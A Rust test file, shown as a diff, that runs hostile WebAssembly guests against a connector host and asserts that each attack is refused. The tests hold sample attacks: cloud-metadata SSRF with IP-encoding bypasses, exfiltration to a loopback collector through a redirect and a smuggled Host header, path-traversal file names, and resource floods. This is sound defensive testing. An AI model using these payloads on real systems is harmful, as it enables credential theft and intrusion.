@@ -1,0 +1,360 @@
+//! Hostile guests against the real host. Each test runs one attack from `tests/guests/hostile`
+//! on a 2-worker runtime, next to an honest invocation of the S3 connector, and checks that:
+//! the attack ends in a typed refusal within its limit; the host's RSS and open descriptors stay
+//! within a stated bound; the honest invocation keeps its usual latency; and the next
+//! invocation succeeds. Attacks run one at a time (they measure the whole process).
+
+use connector_host::{Budget, Budgets, FileAccess, HostError, Invocation, Policy, Runtime};
+use s3_test_support::loopback::ScriptedServer;
+use serde_json::{Value, json};
+use std::sync::Mutex;
+use std::time::{Duration, Instant};
+
+static HOSTILE: &[u8] = include_bytes!(env!("HOSTILE_WASM"));
+static HOSTILE_SOCKETS: &[u8] = include_bytes!(env!("HOSTILE_SOCKETS_WASM"));
+
+/// Host RSS may grow by at most this much during an attack (guest memory cap included).
+const RSS_BOUND_KIB: u64 = 128 * 1024;
+/// Descriptors an attack may leave open after it ends (idle pooled connections).
+const FD_SLACK: usize = 8;
+/// Honest invocations timed alone and under attack.
+const SAMPLES: usize = 60;
+/// Scheduling noise allowed on top of twice the solo p50 (a shared 2-core machine).
+const NOISE: Duration = Duration::from_millis(1);
+
+static SERIAL: Mutex<()> = Mutex::new(());
+
+fn proc_status(field: &str) -> u64 {
+    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
+    status
+        .lines()
+        .find_map(|l| l.strip_prefix(field))
+        .and_then(|v| v.split_whitespace().next()?.parse().ok())
+        .unwrap_or(0)
+}
+
+fn rss_kib() -> u64 {
+    proc_status("VmRSS:")
+}
+
+fn open_fds() -> usize {
+    std::fs::read_dir("/proc/self/fd").map(|d| d.count()).unwrap_or(0)
+}
+
+fn hostile() -> Runtime {
+    Runtime::builder().with_cache_dir(s3_test_support::cache_dir()).build(HOSTILE).expect("the hostile guest loads")
+}
+
+fn connector() -> Runtime {
+    s3_test_support::runtime()
+}
+
+/// An honest invocation that needs no server: the S3 documentation's signed GET, as a dry run.
+async fn honest(runtime: &Runtime) -> Duration {
+    let auth = json!({"access_key_id": "AKIAIOSFODNN7EXAMPLE", "secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "region": "us-east-1"});
+    let policy = Policy { dry_run: true, ..Policy::default() };
+    let input = json!({"bucket": "examplebucket", "key": "test.txt", "range": "bytes=0-9"});
+    let started = Instant::now();
+    let invocation = runtime.invoke("get_object", &auth.to_string(), &input.to_string(), &policy).await.unwrap();
+    assert_eq!(invocation.captured.len(), 1, "the honest invocation must still work");
+    started.elapsed()
+}
+
+fn p50(mut samples: Vec<Duration>) -> Duration {
+    samples.sort();
+    samples[samples.len() / 2]
+}
+
+/// What an attack did to the host.
+struct Observed {
+    outcomes: Vec<Result<Invocation, HostError>>,
+    took: Duration,
+}
+
+/// Runs `copies` of attack `operation` next to a stream of honest invocations, checks the host's
+/// bounds and the honest latency, and returns the attacks' outcomes.
+fn under_attack(operation: &'static str, input: Value, policy: Policy, copies: usize) -> Observed {
+    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
+    rt.block_on(async move {
+        let hostile = std::sync::Arc::new(hostile());
+        let connector = std::sync::Arc::new(connector());
+        for _ in 0..5 {
+            honest(&connector).await;
+        }
+        let mut solo = Vec::new();
+        for _ in 0..SAMPLES {
+            solo.push(honest(&connector).await);
+        }
+        let solo = p50(solo);
+        let (rss_before, fds_before) = (rss_kib(), open_fds());
+        let started = Instant::now();
+        let attacks: Vec<_> = (0..copies)
+            .map(|_| {
+                let (hostile, input, policy) = (hostile.clone(), input.to_string(), policy.clone());
+                tokio::spawn(async move { hostile.invoke(operation, "{}", &input, &policy).await })
+            })
+            .collect();
+        let mut during = Vec::new();
+        let mut rss_peak = rss_before;
+        while during.len() < SAMPLES || (!attacks.iter().all(|a| a.is_finished()) && during.len() < 100 * SAMPLES) {
+            during.push(honest(&connector).await);
+            rss_peak = rss_peak.max(rss_kib());
+        }
+        let mut outcomes = Vec::new();
+        for attack in attacks {
+            outcomes.push(attack.await.expect("the attack task ends"));
+        }
+        let took = started.elapsed();
+        rss_peak = rss_peak.max(rss_kib());
+        let under = p50(during);
+        eprintln!(
+            "{operation}: {took:?}, honest p50 {under:?} (solo {solo:?}), RSS +{} KiB, fds {fds_before} -> {}",
+            rss_peak.saturating_sub(rss_before),
+            open_fds()
+        );
+        assert!(
+            rss_peak.saturating_sub(rss_before) < RSS_BOUND_KIB,
+            "{operation}: RSS grew from {rss_before} to {rss_peak} KiB"
+        );
+        // Idle pooled connections may close a moment after the attack's store is dropped.
+        let settle = Instant::now();
+        while open_fds() > fds_before + FD_SLACK && settle.elapsed() < Duration::from_secs(5) {
+            tokio::time::sleep(Duration::from_millis(50)).await;
+        }
+        assert!(open_fds() <= fds_before + FD_SLACK, "{operation}: fds {fds_before} -> {}", open_fds());
+        assert!(under <= solo * 2 + NOISE, "{operation}: the honest invocation slowed from {solo:?} to {under:?}");
+        // The host keeps serving: the next invocations, hostile and honest, succeed.
+        let next = hostile.invoke("allocate", "{}", r#"{"mib": 1}"#, &Policy::default()).await.unwrap();
+        assert_eq!(next.result.unwrap(), "allocated 1 MiB");
+        honest(&connector).await;
+        Observed { outcomes, took }
+    })
+}
+
+fn single(observed: Observed) -> Result<Invocation, HostError> {
+    observed.outcomes.into_iter().next().unwrap()
+}
+
+fn budget_of(outcome: &Result<Invocation, HostError>) -> Option<Budget> {
+    match outcome {
+        Err(HostError::Budget(exceeded)) => Some(exceeded.budget),
+        _ => None,
+    }
+}
+
+/// The guest's own report of a refused attack.
+fn refusal(outcome: Result<Invocation, HostError>) -> (String, Vec<String>) {
+    let invocation = outcome.expect("the host answers");
+    let error = invocation.result.expect_err("the attack must fail");
+    (error.message, invocation.denied)
+}
+
+#[test]
+fn a_component_that_imports_sockets_is_refused_at_load() {
+    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let error = Runtime::builder().build(HOSTILE_SOCKETS).err().expect("refused");
+    match &error {
+        HostError::ImportNotAllowed(imports) => assert!(imports.contains("wasi:sockets/tcp@"), "{imports}"),
+        other => panic!("expected ImportNotAllowed, got {other}"),
+    }
+    assert!(error.to_string().contains("wasi:sockets/"), "{error}");
+}
+
+#[test]
+fn the_metadata_service_on_a_private_address_is_unreachable_by_default() {
+    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
+    rt.block_on(async {
+        let metadata = ScriptedServer::start(vec![
+            "HTTP/1.1 200 OK\r\ncontent-length: 27\r\n\r\nAKIA-METADATA-CREDENTIALS\r\n".into(),
+        ])
+        .await;
+        let port = metadata.endpoint.rsplit(':').next().unwrap().to_string();
+        let hostile = hostile();
+        // The tenant names the "internal service" as its endpoint; the library's default policy
+        // derives an exact-origin rule from it, and the connect-time check still refuses it.
+        for url in [
+            format!("{}/latest/meta-data/iam/security-credentials/role", metadata.endpoint),
+            format!("http://localhost:{port}/latest/meta-data/"),
+            format!("http://2130706433:{port}/latest/meta-data/"),
+            format!("http://[::ffff:127.0.0.1]:{port}/latest/meta-data/"),
+        ] {
+            let origin = url.split('/').take(3).collect::<Vec<_>>().join("/");
+            let auth = json!({"endpoint": origin}).to_string();
+            let outcome = hostile.invoke("fetch", &auth, &json!({"url": url}).to_string(), &Policy::default()).await;
+            let (message, denied) = refusal(outcome);
+            assert!(message.contains("HttpRequestDenied"), "{url}: {message}");
+            assert_eq!(denied.len(), 1, "{url}: {denied:?}");
+        }
+        assert_eq!(metadata.requests.load(std::sync::atomic::Ordering::SeqCst), 0, "the metadata server was reached");
+    });
+}
+
+#[test]
+fn exfiltration_to_a_host_outside_the_policy_fails_every_way() {
+    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
+    rt.block_on(async {
+        let collector = ScriptedServer::start(vec!["HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok".into()]).await;
+        let redirect = format!(
+            "HTTP/1.1 302 Found\r\nlocation: {}/steal?secret=1\r\ncontent-length: 0\r\n\r\n",
+            collector.endpoint
+        );
+        let allowed = ScriptedServer::start(vec![redirect]).await;
+        let hostile = hostile();
+        // The operator runs S3 on loopback and allows exactly that origin.
+        let policy = Policy {
+            allow_private_networks: true,
+            outbound: Some(vec![connector_host::OutboundRule::exact_origin(&allowed.endpoint).unwrap()]),
+            ..Policy::default()
+        };
+        let collector_host = collector.endpoint.trim_start_matches("http://").to_string();
+        let attempts = [
+            ("fetch", json!({"url": format!("{}/steal", collector.endpoint)})),
+            ("fetch", json!({"url": format!("{}/", allowed.endpoint), "follow_redirects": 3})),
+            ("fetch", json!({"url": format!("{}/", allowed.endpoint), "headers": [["host", collector_host]]})),
+            ("fetch_without_authority", json!({})),
+        ];
+        for (operation, input) in attempts {
+            let outcome = hostile.invoke(operation, "{}", &input.to_string(), &policy).await;
+            let (message, _) = refusal(outcome);
+            assert!(
+                ["HttpRequestDenied", "Forbidden", "HttpRequestUriInvalid"].iter().any(|m| message.contains(m)),
+                "{operation} {input}: {message}"
+            );
+        }
+        assert_eq!(collector.requests.load(std::sync::atomic::Ordering::SeqCst), 0, "data reached the collector");
+        // Only the redirect itself reached the allowed server; the guest-set Host header never left.
+        assert_eq!(allowed.requests.load(std::sync::atomic::Ordering::SeqCst), 1);
+    });
+}
+
+#[test]
+fn a_header_flood_ends_at_the_resource_budget() {
+    let observed = under_attack("header_flood", json!({"count": 200_000, "size": 15 * 1024}), Policy::default(), 1);
+    let outcome = single(observed);
+    assert_eq!(budget_of(&outcome), Some(Budget::Resources), "{outcome:?}");
+}
+
+/// A server that reads requests and never answers, closing each connection when its client does
+/// (so the descriptors the test counts are the host's alone).
+async fn silent_server() -> String {
+    use tokio::io::AsyncReadExt;
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let endpoint = format!("http://{}", listener.local_addr().unwrap());
+    tokio::spawn(async move {
+        while let Ok((mut socket, _)) = listener.accept().await {
+            tokio::spawn(async move {
+                let mut buffer = vec![0u8; 4096];
+                while matches!(socket.read(&mut buffer).await, Ok(n) if n > 0) {}
+            });
+        }
+    });
+    endpoint
+}
+
+#[test]
+fn a_request_flood_ends_at_the_in_flight_budget() {
+    let hole = tokio::runtime::Runtime::new().unwrap();
+    let endpoint = hole.block_on(silent_server());
+    let policy = Policy {
+        allow_private_networks: true,
+        outbound: Some(vec![connector_host::OutboundRule::exact_origin(&endpoint).unwrap()]),
+        ..Policy::default()
+    };
+    let observed = under_attack("request_flood", json!({"url": format!("{endpoint}/x"), "count": 10_000}), policy, 1);
+    let outcome = single(observed);
+    assert_eq!(budget_of(&outcome), Some(Budget::RequestsInFlight), "{outcome:?}");
+    drop(hole);
+}
+
+#[test]
+fn spinning_guests_are_stopped_at_their_time_limit_without_starving_others() {
+    let limit = Duration::from_secs(2);
+    let policy = Policy { time_limit: limit, ..Policy::default() };
+    // More spinners than worker threads.
+    let observed = under_attack("spin", json!({}), policy, 4);
+    assert!(observed.took < limit * 3, "the spinners ran for {:?}", observed.took);
+    for outcome in observed.outcomes {
+        assert!(matches!(outcome, Err(HostError::TimeLimit(l)) if l == limit), "{outcome:?}");
+    }
+}
+
+#[test]
+fn memory_past_the_cap_traps_only_that_guest() {
+    let policy = Policy { memory_limit: 16 << 20, ..Policy::default() };
+    let outcome = single(under_attack("allocate", json!({"mib": 100}), policy, 1));
+    assert!(matches!(outcome, Err(HostError::MemoryLimit(l)) if l == 16 << 20), "{outcome:?}");
+}
+
+#[test]
+fn a_trap_discards_only_that_instance() {
+    let outcome = single(under_attack("trap", json!({}), Policy::default(), 1));
+    assert!(matches!(outcome, Err(HostError::Trap(_))), "{outcome:?}");
+}
+
+/// A file store in a fresh directory below a parent the test watches for leaks.
+fn store() -> (tempfile::TempDir, std::path::PathBuf, Policy) {
+    let parent = tempfile::tempdir().unwrap();
+    let root = parent.path().join("store");
+    std::fs::create_dir(&root).unwrap();
+    let policy = Policy { files: FileAccess { root: Some(root.clone()), writable: true }, ..Policy::default() };
+    (parent, root, policy)
+}
+
+fn entries(dir: &std::path::Path) -> Vec<String> {
+    let mut names: Vec<String> =
+        std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
+    names.sort();
+    names
+}
+
+#[test]
+fn file_names_that_are_the_root_or_outside_it_are_refused() {
+    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let (parent, root, policy) = store();
+    let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
+    rt.block_on(async {
+        let hostile = hostile();
+        for name in [".", "./", "././.", "..", "../escape", "a/../../escape", "/tmp/escape", "a//b", "sub/."] {
+            for resume_key in [None, Some("etag")] {
+                let input = json!({"name": name, "resume_key": resume_key}).to_string();
+                let (message, _) = refusal(hostile.invoke("create_file", "{}", &input, &policy).await);
+                assert!(message.contains("InvalidName"), "{name:?}: {message}");
+            }
+        }
+    });
+    assert_eq!(entries(parent.path()), vec!["store"], "nothing may appear beside the store");
+    assert!(entries(&root).is_empty(), "nothing may appear in the store: {:?}", entries(&root));
+}
+
+#[test]
+fn a_fifo_is_refused_without_blocking() {
+    let (_parent, root, policy) = store();
+    let fifo = root.join("pipe");
+    let path = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
+    // SAFETY: `path` is a valid NUL-terminated string that outlives the call.
+    assert_eq!(unsafe { libc::mkfifo(path.as_ptr(), 0o600) }, 0);
+    let observed = under_attack("read_file", json!({"name": "pipe"}), policy, 1);
+    assert!(observed.took < Duration::from_secs(2), "open-read blocked for {:?}", observed.took);
+    let (message, _) = refusal(single(observed));
+    assert!(message.contains("not a regular file"), "{message}");
+}
+
+#[test]
+fn writing_without_end_stops_at_the_byte_budget_and_leaves_no_file() {
+    let (_parent, root, mut policy) = store();
+    policy.budgets = Budgets { file_bytes_written: 64 << 20, ..Budgets::default() };
+    let outcome = single(under_attack("write_forever", json!({"name": "endless.bin"}), policy, 1));
+    assert_eq!(budget_of(&outcome), Some(Budget::FileBytesWritten), "{outcome:?}");
+    assert!(entries(&root).is_empty(), "a partial file is visible: {:?}", entries(&root));
+}
+
+#[test]
+fn opening_files_without_end_stops_at_the_open_files_budget() {
+    let (_parent, root, policy) = store();
+    std::fs::write(root.join("data.bin"), vec![7u8; 8 << 20]).unwrap();
+    let outcome = single(under_attack("open_flood", json!({"name": "data.bin", "count": 10_000}), policy, 1));
+    assert_eq!(budget_of(&outcome), Some(Budget::OpenFiles), "{outcome:?}");
+}
